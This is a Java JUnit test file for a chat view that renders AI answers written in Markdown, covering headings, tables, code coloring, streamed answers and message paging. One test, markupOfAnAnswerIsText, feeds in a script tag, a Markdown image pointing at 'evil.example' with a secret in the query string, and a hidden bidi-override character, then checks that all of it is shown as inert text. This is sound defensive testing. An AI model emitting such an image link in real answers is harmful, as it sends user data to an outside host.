package org.tftsr.ui.chat.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import org.eclipse.swt.custom.StyleRange;
import org.eclipse.swt.custom.StyledText;
import org.eclipse.swt.graphics.Color;
import org.junit.jupiter.api.Test;
import org.tftsr.core.ai.ChatMessage;
import org.tftsr.core.ai.Conversation;
import org.tftsr.core.ai.ConversationRepository;
import org.tftsr.core.ai.MessageRole;
import org.tftsr.core.ai.MessageState;
import org.tftsr.core.ai.ProviderRepository;
import org.tftsr.ui.Services;
import org.tftsr.ui.testsupport.Workbench;

/** What an answer looks like; it may come from anybody. */
class RenderingTest extends ChatTest {

	private void answer(String text) throws Exception {
		ConversationRepository repository = Services.get(ConversationRepository.class);
		Conversation conversation = repository.create(issue, "Rendering", ProviderRepository.LOCAL_ID, null);
		ChatMessage question = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), null, MessageRole.USER,
				"Show me.", MessageState.COMPLETE, List.of()));
		repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), question.id(), MessageRole.ASSISTANT, text,
				MessageState.COMPLETE, List.of()));
		Chat.waitForText("Show me.");
		Chat.settle();
	}

	private static String shown() throws Exception {
		return Workbench.ui(() -> Chat.conversation().getText());
	}

	@Test
	void blocksAreTextInTheirOrder() throws Exception {
		answer("""
				# Cause

				The *pool* is **exhausted**, see `pool.max`.

				- [x] look at it
				- [ ] raise it

				| what | how many |
				|:-----|---------:|
				| pool | 20 |

				```yaml
				pool: 20 # too few
				```
				> quoted
				""");
		String text = shown();
		assertTrue(text.contains("Cause\nThe pool is exhausted, see pool.max.\n"), text);
		assertTrue(text.contains("\u2611  look at it\n\u2610  raise it\n"), text);
		assertTrue(text.contains("what   how many\npool         20\n"), text);
		assertTrue(text.contains("yaml\npool: 20 # too few\nquoted"), text);
		Workbench.screenshot("chat-blocks");
	}

	/** How each line and each of its characters looks, as the widget knows it. */
	private static List<String> looks() throws Exception {
		return Workbench.ui(() -> {
			StyledText text = Chat.conversation();
			return IntStream.range(0, text.getLineCount()).mapToObj(line -> {
				int start = text.getOffsetAtLine(line);
				String words = text.getLine(line);
				String styles = IntStream.range(start, start + words.length()).mapToObj(text::getStyleRangeAtOffset)
						.map(RenderingTest::look).collect(Collectors.joining());
				return "%s | %d %d %d %s |%s".formatted(words, text.getLineIndent(line), text.getLineWrapIndent(line),
						text.getLineVerticalIndent(line), text.getLineBackground(line), styles);
			}).toList();
		});
	}

	private static String look(StyleRange style) {
		return style == null ? " -"
				: " " + style.fontStyle + style.foreground + (style.font == null ? "" : style.font.getFontData()[0]);
	}

	private void openAnew() throws Exception {
		Workbench.ui(() -> {
			Workbench.page().hideView(Workbench.page().findView(Chat.VIEW));
			return Boolean.TRUE;
		});
		Chat.show(issue);
	}

	@Test
	void anAnswerThatGrewLooksLikeOneThatWasThere() throws Exception {
		Chat.ask("Show me.");
		script.text("# Cause\n\nThe *pool* is **exhausted**:\n\n1. no connection\n2. a wor");
		Chat.waitForText("a wor");
		script.text("ker\n\n| what | how many |\n|:--|--:|\n| pool | 20 |\n\n> quo");
		Chat.waitForText("quo");
		script.text("ted\n\n```yaml\npool: 20 # few\n```\n\nThe e").end(MessageState.STOPPED);
		Chat.waitForText("Stopped.");
		Chat.settle();
		List<String> grown = looks();
		openAnew();
		Chat.waitForText("Stopped.");
		assertEquals(String.join("\n", looks()), String.join("\n", grown));
		script.text("nd.\n\n- one\n- two").end(MessageState.COMPLETE);
		Chat.click("Continue");
		Chat.waitForText("two");
		Workbench.waitFor("it is whole", () -> "Send".equals(Chat.sendButton().getText()) && !Chat.says("Stopped."));
		Chat.settle();
		List<String> continued = looks();
		openAnew();
		Chat.waitForText("two");
		assertEquals(String.join("\n", looks()), String.join("\n", continued));
	}

	@Test
	void codeIsColoredByWhatItsWordsAre() throws Exception {
		answer("```java\nreturn \"pool\"; // too small 20\n```\n\n```\nreturn \"pool\";\n```\n");
		List<Color> java = Workbench.ui(() -> colors(Chat.conversation().getText().indexOf("return \"pool\"; //")));
		assertEquals(4, new HashSet<>(java).size(), () -> "keyword, text, sign and comment: " + java);
		List<Color> plain = Workbench.ui(() -> colors(Chat.conversation().getText().lastIndexOf("return \"pool\";")));
		assertEquals(1, new HashSet<>(plain.subList(0, 3)).size(), () -> "nobody knows what this is: " + plain);
	}

	/** Of a keyword, a text, a sign and what stands behind it, from there on. */
	private static List<Color> colors(int at) {
		StyledText text = Chat.conversation();
		return List.of(at, at + 7, at + 13, at + 17).stream().filter(place -> place < text.getCharCount())
				.map(place -> Objects.requireNonNullElse(text.getStyleRangeAtOffset(place), new StyleRange()).foreground)
				.map(color -> color == null ? text.getForeground() : color).toList();
	}

	@Test
	void markupOfAnAnswerIsText() throws Exception {
		answer("<script>alert(1)</script>\n\n![leak](https://evil.example/?d=secret) a\u202Eb\u200Bc \u0007");
		String text = shown();
		assertTrue(text.contains("<script>alert(1)</script>"), text);
		assertTrue(text.contains("leak abc"), text);
		assertFalse(text.contains("\u202E"));
	}

	@Test
	void aTableThatIsTooWideGoesOnWithinItsCells() throws Exception {
		answer("| a | b |\n|---|---|\n| " + "long words in a cell ".repeat(20) + " | 1 |\n");
		StyledText text = Workbench.ui(Chat::conversation);
		String[] lines = shown().split("\n");
		int most = 0;
		for (String line : lines) {
			most = Math.max(most, line.length());
		}
		assertTrue(most < 200, shown());
		assertTrue(Workbench.ui(text::getLineCount) > 5);
	}

	@Test
	void manyMessagesAreShownFromTheEnd() throws Exception {
		ConversationRepository repository = Services.get(ConversationRepository.class);
		Conversation conversation = repository.create(issue, "Long", ProviderRepository.LOCAL_ID, null);
		UUID parent = null;
		for (int i = 1; i <= 100; i++) {
			parent = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), parent,
					i % 2 == 1 ? MessageRole.USER : MessageRole.ASSISTANT, "message " + i + ".", MessageState.COMPLETE, List.of()))
					.id();
		}
		Chat.waitForText("message 100.");
		Chat.settle();
		assertFalse(shown().contains("message 60."));
		Chat.click("Show earlier messages (60)");
		Chat.waitForText("message 21.");
		Chat.settle();
		assertTrue(shown().contains("Show earlier messages (20)"));
		assertEquals(80, shown().split("message ").length - 1);
	}
}
